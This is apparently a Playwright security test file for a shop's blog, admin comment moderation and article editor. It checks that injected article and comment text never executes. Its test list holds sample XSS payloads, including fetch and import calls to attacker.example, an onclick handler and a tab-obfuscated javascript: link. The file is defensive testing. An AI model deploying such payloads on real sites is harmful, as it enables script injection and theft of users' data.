import { staffToken } from '@zaino/browser-testing/admin';
import { expect, test } from '@zaino/browser-testing/shop';
import type { AdminArticle } from '@zaino/contracts/blog';
import { type Page, request as newRequest } from '@playwright/test';
import {
  approve,
  commentsOf,
  leaveComment,
  newMark,
  waitingComments,
  writeArticle,
} from './blog-calls';
import { injectedArticles, injectedTexts } from './injected-articles';
import { expectPage } from './reader';
import { openAsAdmin } from './staff';
import { watchForScripts } from './watch-for-scripts';

// One after the other, on the same articles.
test.describe.configure({ mode: 'default' });
// Hundreds of pages: to draw what each step changed would take longer than the steps.
test.use({ trace: 'off' });

const mark = `prova${newMark()}`;
const articles: AdminArticle[] = [];

test.beforeAll(async ({ baseURL }) => {
  const request = await newRequest.newContext({ baseURL });
  for (const input of injectedArticles(mark)) articles.push(await writeArticle(request, input));
  for (const text of injectedTexts) {
    await leaveComment(request, commented(), { name: text.slice(0, 80), content: text });
  }
  await request.dispose();
});

/** The one that all comments are left below. */
function commented(): AdminArticle {
  const [first] = articles;
  if (!first) throw new Error('The articles are not written yet');
  return first;
}

/** Waits until React has taken over the page. */
const isAlive = (page: Page) =>
  page.waitForFunction(() => {
    const heading = document.querySelector('main h1') ?? {};
    return Object.keys(heading).some((key) => key.startsWith('__reactFiber'));
  });

const running = (code: string) => `<body><script>${code}; document.currentScript.remove()</script>`;

/** Pages on which something runs or would, each with how that is noticed. */
const dangerous: [html: string, notice: RegExp][] = [
  [running('alert(1)'), /dialog: 1/],
  [running('open("about:blank")'), /window: /],
  [running('document.body.appendChild(document.createElement("iframe")).remove()'), /frame: /],
  [running('fetch("https://attacker.example/x")'), /fetch: https:\/\/attacker\.example\/x/],
  [running('import("https://attacker.example/x.js")'), /script: https:\/\/attacker\.example/],
  ['<link rel="stylesheet" href="https://attacker.example/x.css">', /stylesheet: https:/],
  ['<p><script>1</script>', /<script>/],
  ['<p onclick="x()">x', /p onclick/],
  ['<a href="java\tscript:x()">x', /a href/],
  ['<base href="/x">', /<base/],
];

test('whatever runs or may run on a page is noticed @short', async ({ context }) => {
  for (const [html, notice] of dangerous) {
    const page = await context.newPage();
    const expectNothingRan = await watchForScripts(page, []);
    await page.setContent('<p>Niente.</p>');
    await expectNothingRan();
    await page.setContent(html);
    await expect.poll(() => expectNothingRan().then(() => '', String)).toMatch(notice);
    await page.close();
  }
});

test('no image is taken from an address that is none', async ({ request }) => {
  const headers = { authorization: `Bearer ${await staffToken(request)}` };
  for (const featuredImage of injectedTexts) {
    const data = { title: mark, content: '<p>x</p>', author: 'x', featuredImage };
    const answer = await request.post('/api/createBlogArticle', { headers, data });
    expect(answer.status(), featuredImage).toBe(400);
  }
});

test('nothing that an article or a comment says runs for admins', async ({ page, problems }) => {
  const expectNothingRan = await watchForScripts(page, problems);
  const path = `/admin/blog/comments?articolo=${commented().id}`;
  await openAsAdmin(page, { path, heading: 'Commenti' });
  const waiting = page.getByRole('main').getByRole('checkbox', { name: /^Commento di/ });
  await expect(waiting).toHaveCount(50);
  await expectNothingRan();
  for (let rest = injectedTexts.length; rest > 0; rest -= 50) {
    const comments = await waitingComments(page.request, commented());
    await approve(
      page.request,
      comments.map(({ id }) => id),
    );
  }
  const shown = await commentsOf(page.request, commented());
  expect(shown.length).toBeGreaterThan(60);

  for (const pagina of [1, 2]) {
    await page.goto(`/admin/blog?cerca=${mark}&pagina=${pagina}`);
    await expect(page.getByRole('button', { name: /^Modifica/ })).not.toHaveCount(0);
    await expectNothingRan();
  }
});

test('nothing that an article says runs in the form: draft, pasted text, preview', async ({
  page,
  problems,
}) => {
  const expectNothingRan = await watchForScripts(page, problems);
  const key = `new-${crypto.randomUUID()}`;
  const bearer = await openAsAdmin(page, { path: '/admin/blog', heading: 'Blog', isOwn: true });
  const all = injectedTexts.join(' ');
  const fields = {
    title: `${mark} ${all}`.slice(0, 200),
    author: all.slice(0, 100),
    excerpt: all.slice(0, 500),
    content: all,
    tags: all.slice(0, 200),
    category: '',
    featuredImage: all.slice(0, 2000),
    status: 'draft',
    publishedAt: '',
    slug: '',
  };
  const headers = { authorization: `Bearer ${bearer}` };
  const data = { fields, baseVersion: null };
  const kept = await page.request.put(`/api/blog/drafts/${key}`, { headers, data });
  expect(kept.status(), await kept.text()).toBe(200);

  await page.getByRole('button', { name: 'Nuovo articolo' }).click();
  await expectNothingRan();
  await page.getByRole('button', { name: 'Riprendi la bozza' }).click();
  const dialog = page.getByRole('dialog', { name: 'Nuovo articolo' });
  const text = dialog.getByRole('textbox', { name: 'Testo', exact: true });
  await text.evaluate((element, texts) => {
    for (const html of texts) {
      const clipboardData = new DataTransfer();
      clipboardData.setData('text/html', html);
      clipboardData.setData('text/plain', html);
      const init = { clipboardData, bubbles: true, cancelable: true };
      element.dispatchEvent(new ClipboardEvent('paste', init));
    }
  }, injectedTexts);
  await expectNothingRan();
  await dialog.getByRole('button', { name: 'Anteprima' }).click();
  await expect(dialog.getByRole('region', { name: 'Anteprima' })).toContainText(mark);
  await expectNothingRan();
});

test('nothing that an article or a comment says runs on the list, nor on pages reached from it', async ({
  page,
  problems,
}) => {
  const expectNothingRan = await watchForScripts(page, problems);
  const links = page.getByRole('main').locator('section h3 a');
  const read = new Set<string>();
  for (let number = 1; number * 12 - 11 <= articles.length; number += 1) {
    const list = `/blog?categoria=${mark}&pagina=${number}`;
    await page.goto(list);
    await isAlive(page);
    await expectNothingRan();
    const count = await links.count();
    for (let index = 0; index < count; index += 1) {
      await links.nth(index).click();
      await page.getByText(/^inizio/).waitFor();
      await expectNothingRan();
      read.add(page.url());
      await page.goBack();
      // Related articles, too, are links below headings.
      await expectPage(page, 'Blog');
    }
  }
  expect(read.size).toBe(articles.length);
});

test('nothing that an article or a comment says runs on the server’s pages @short', async ({
  page,
  problems,
}) => {
  const expectNothingRan = await watchForScripts(page, problems);
  for (const { slug } of articles) {
    await page.goto(`/blog/${slug}`);
    await isAlive(page);
    await expectNothingRan();
  }
});
